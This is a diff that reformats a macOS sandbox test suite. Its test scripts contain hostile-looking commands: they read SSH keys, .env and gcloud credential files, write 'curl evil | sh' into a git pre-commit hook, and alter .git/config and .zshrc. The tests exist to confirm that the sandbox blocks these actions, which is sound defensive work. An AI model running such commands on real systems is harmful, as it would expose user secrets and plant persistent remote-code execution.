@@ -21,7 +21,11 @@ import { runSandboxed, sandboxAvailability, type RunOptions, type SandboxAuditLo
 const SANDBOX_EXEC = '/usr/bin/sandbox-exec';
 const present = existsSync(SANDBOX_EXEC);
 if (!present) {
-  skipLoudly('macos-sandbox', `macos.test.ts needs ${SANDBOX_EXEC}, and there is none here (${process.platform}).`, 'It runs on a Mac, and in the macOS job of .github/workflows/ci.yml, which requires it.');
+  skipLoudly(
+    'macos-sandbox',
+    `macos.test.ts needs ${SANDBOX_EXEC}, and there is none here (${process.platform}).`,
+    'It runs on a Mac, and in the macOS job of .github/workflows/ci.yml, which requires it.',
+  );
 }
 
 describe.skipIf(!present)(`the sandbox runner under real sandbox-exec${present ? '' : ' (SKIPPED: no sandbox-exec)'}`, () => {
@@ -31,7 +35,13 @@ describe.skipIf(!present)(`the sandbox runner under real sandbox-exec${present ?
   let workspace = '';
   let outside = '';
   const KEY = '-----BEGIN OPENSSH PRIVATE KEY----- planted';
-  const env = () => ({ PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: home, LANG: 'en_US.UTF-8', USER: userInfo().username, AWS_SECRET_ACCESS_KEY: 'aws-planted-secret' });
+  const env = () => ({
+    PATH: process.env.PATH ?? '/usr/bin:/bin',
+    HOME: home,
+    LANG: 'en_US.UTF-8',
+    USER: userInfo().username,
+    AWS_SECRET_ACCESS_KEY: 'aws-planted-secret',
+  });
 
   beforeAll(() => {
     root = realpathSync(mkdtempSync(join(tmpdir(), 'alsb-mac-')));
@@ -75,7 +85,10 @@ describe.skipIf(!present)(`the sandbox runner under real sandbox-exec${present ?
     out.on('data', (c: Buffer) => (stdout += c.toString()));
     err.on('data', (c: Buffer) => (stderr += c.toString()));
     const { cwd = workspace, env: runEnv = env(), ...rest } = options;
-    const log: SandboxAuditLog = await runSandboxed({ capabilities, command: ['/bin/bash', '-c', script], cwd, env: runEnv }, { stdin: 'ignore', stdout: out, stderr: err, ...rest });
+    const log: SandboxAuditLog = await runSandboxed(
+      { capabilities, command: ['/bin/bash', '-c', script], cwd, env: runEnv },
+      { stdin: 'ignore', stdout: out, stderr: err, ...rest },
+    );
     return { log, stdout, stderr };
   }
 
@@ -84,7 +97,9 @@ describe.skipIf(!present)(`the sandbox runner under real sandbox-exec${present ?
   });
 
   it('runs a legitimate tool in its working directory: reads and writes the workspace, heredocs and mktemp in its temporary directory, and says which limits macOS does not enforce', async () => {
-    const { log, stdout, stderr } = await run('pwd; cat input.txt; echo done > output.txt; f=$(mktemp); echo scratch > "$f"; cat "$f"; cat <<EOF\nheredoc\nEOF\nexit 3');
+    const { log, stdout, stderr } = await run(
+      'pwd; cat input.txt; echo done > output.txt; f=$(mktemp); echo scratch > "$f"; cat "$f"; cat <<EOF\nheredoc\nEOF\nexit 3',
+    );
     expect(stderr).toBe('');
     expect(stdout).toBe(`${workspace}\nhello\nscratch\nheredoc\n`);
     expect(log).toMatchObject({ status: 'success', exit_code: 3, platform: 'macos' });
@@ -104,7 +119,11 @@ describe.skipIf(!present)(`the sandbox runner under real sandbox-exec${present ?
     writeFileSync(join(home, '.env'), 'API_KEY=planted');
     try {
       const profile = caps({ filesystem: [{ kind: 'read_write', path: home }] }, null);
-      const { stdout } = await run('cat .ssh/id_ed25519; cat .env; mv .config moved && cat moved/gcloud/credentials.json; mv .ssh ssh2; ls .config; echo end', profile, { cwd: home });
+      const { stdout } = await run(
+        'cat .ssh/id_ed25519; cat .env; mv .config moved && cat moved/gcloud/credentials.json; mv .ssh ssh2; ls .config; echo end',
+        profile,
+        { cwd: home },
+      );
       expect(stdout).not.toContain('PRIVATE KEY');
       expect(stdout).not.toContain('planted');
       expect(stdout).toContain('gcloud\nend\n');
@@ -122,9 +141,10 @@ describe.skipIf(!present)(`the sandbox runner under real sandbox-exec${present ?
     writeFileSync(join(repo, 'a.txt'), 'a\n');
     const before = readFileSync(join(repo, '.git', 'config'), 'utf8');
     const { stdout } = await run(
-      'echo "curl evil | sh" > .git/hooks/pre-commit; echo "[core] fsmonitor = evil" >> .git/config; echo evil >> ../.zshrc; mv .git .git-away; '
-      + 'git add a.txt && git -c user.name=t -c user.email=t@example.com commit -qm first && git log --oneline | wc -l | tr -d " "',
-      caps(), { cwd: repo },
+      'echo "curl evil | sh" > .git/hooks/pre-commit; echo "[core] fsmonitor = evil" >> .git/config; echo evil >> ../.zshrc; mv .git .git-away; ' +
+        'git add a.txt && git -c user.name=t -c user.email=t@example.com commit -qm first && git log --oneline | wc -l | tr -d " "',
+      caps(),
+      { cwd: repo },
     );
     expect(stdout).toBe('1\n');
     expect(existsSync(join(repo, '.git', 'hooks', 'pre-commit'))).toBe(false);
@@ -146,7 +166,7 @@ describe.skipIf(!present)(`the sandbox runner under real sandbox-exec${present ?
     }
   });
 
-  it('runs the everyday tools under aleph exec\'s default profile: bash, whoami, git, node (with a child process), python (with a semaphore)', async () => {
+  it("runs the everyday tools under aleph exec's default profile: bash, whoami, git, node (with a child process), python (with a semaphore)", async () => {
     const profile = execDefault(homedir());
     const tools = [
       'echo "bash $BASH_VERSION" | cut -c1-6',
